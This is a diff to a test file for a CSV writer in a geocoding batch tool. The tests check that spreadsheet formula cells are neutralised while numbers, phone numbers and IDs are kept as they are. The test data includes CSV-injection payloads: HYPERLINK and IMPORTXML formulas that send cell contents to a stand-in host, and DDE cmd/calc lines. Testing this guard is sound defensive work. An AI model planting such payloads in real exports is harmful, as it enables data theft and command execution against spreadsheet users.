@@ -33,28 +33,90 @@ describe('CSV writer', () => {
     ]);
   });
 
-  it('neutralises text a spreadsheet would run as a formula, but leaves plain numbers alone', async () => {
-    const cells = ['=1+1', '+SUM(A1)', '-x', '@cmd', '\tTAB', '\rCR', '-12.5', '+3', '1e5', 'plain', ''];
+  it('guards cells a spreadsheet would run, and leaves numbers, phone numbers, dashes and ids as they are', async () => {
+    const guarded = [
+      '=1+1',
+      '@SUM(1+1)',
+      '\tTAB',
+      '\rCR',
+      '+SUM(A1)',
+      '+HYPERLINK("http://x.example/?"&A1,"click")',
+      "-2+3+cmd|' /C calc'!A0",
+      "+cmd|'/C calc'!A0",
+      '-IMPORTXML (CONCAT("http://x.example/?", A1), "//a")',
+      '+Sheet2!A1',
+    ];
+    const untouched = [
+      '+49 30 1234567',
+      '+4915112345678',
+      '+49 (0)30 123-45',
+      '+49-30-1234567',
+      '-',
+      '--',
+      '-12.5',
+      '+3e5',
+      '-1,5',
+      '+sB2/fG9XfRxvdA==',
+      '-AbC_12x-9',
+      '-x',
+      'plain',
+      '',
+    ];
+    const cells = [...guarded, ...untouched];
     const outcomes = cells.map((city, i) =>
       ok(row(i, { id: String(i), city }), { columns: { lat: city, lon: null } }),
     );
     const { csv } = await writeAll(outcomes);
     const back = parse(csv, { columns: true }) as Record<string, string>[];
-    const expected = [
-      "'=1+1",
-      "'+SUM(A1)",
-      "'-x",
-      "'@cmd",
-      "'\tTAB",
-      "'\rCR",
-      '-12.5',
-      '+3',
-      '1e5',
-      'plain',
-      '',
-    ];
+    const expected = [...guarded.map((c) => `'${c}`), ...untouched];
     expect(back.map((r) => r.city)).toEqual(expected);
     expect(back.map((r) => r.lat)).toEqual(expected);
+  });
+
+  it('writes every cell byte for byte with the guard off', async () => {
+    const cells = ['=1+1', '+SUM(A1)', '@x', '+49 30 1234567'];
+    const outcomes = cells.map((city, i) => ok(row(i, { id: String(i), city }), { columns: {} }));
+    const { csv } = await writeAll(outcomes, { formulaGuard: false });
+    expect((parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.city)).toEqual(cells);
+  });
+
+  it("writes geobatch's own columns once when an earlier output or report is fed back", async () => {
+    const input = ['id', 'geobatch_row', 'city', 'geobatch_status', 'geobatch_error', 'geobatch_message'];
+    const earlier = {
+      id: '1',
+      geobatch_row: '7',
+      city: 'Bonn',
+      geobatch_status: 'failed',
+      geobatch_error: 'NO_MATCH',
+      geobatch_message: 'old',
+    };
+    const { csv, warnings } = await writeAll(
+      [ok(row(0, earlier), { columns: { lat: 50.7, lon: 7.1 } }), failed(row(1, { ...earlier, id: '2' }), 1)],
+      { inputColumns: () => input },
+    );
+    expect(parse(csv)).toEqual([
+      ['id', 'city', 'lat', 'lon', 'geobatch_status', 'geobatch_error'],
+      ['1', 'Bonn', '50.7', '7.1', 'ok', ''],
+      ['2', 'Bonn', '', '', 'failed', 'NO_MATCH'],
+    ]);
+    expect(warnings).toEqual([]);
+  });
+
+  it("puts a job column the input already has in the input's place, with this run's value only", async () => {
+    const { csv, warnings } = await writeAll(
+      [
+        ok(row(0, { id: '1', lat: '10', city: 'A' }), { columns: { lat: 50.1, lon: 7.1 } }),
+        failed(row(1, { id: '2', lat: '20', city: 'B' }), 1),
+      ],
+      { inputColumns: () => ['id', 'lat', 'city'] },
+    );
+    expect(parse(csv)).toEqual([
+      ['id', 'lat', 'city', 'lon', 'geobatch_status', 'geobatch_error'],
+      ['1', '50.1', 'A', '7.1', 'ok', ''],
+      // The failed row's input value is an earlier answer: it is not shown as this run's.
+      ['2', '', 'B', '', 'failed', 'NO_MATCH'],
+    ]);
+    expect(warnings).toEqual(['Job column(s) lat replace the input column(s) of the same name']);
   });
 
   it('writes one record per hit for a row the job explodes, and one for a row without fields', async () => {
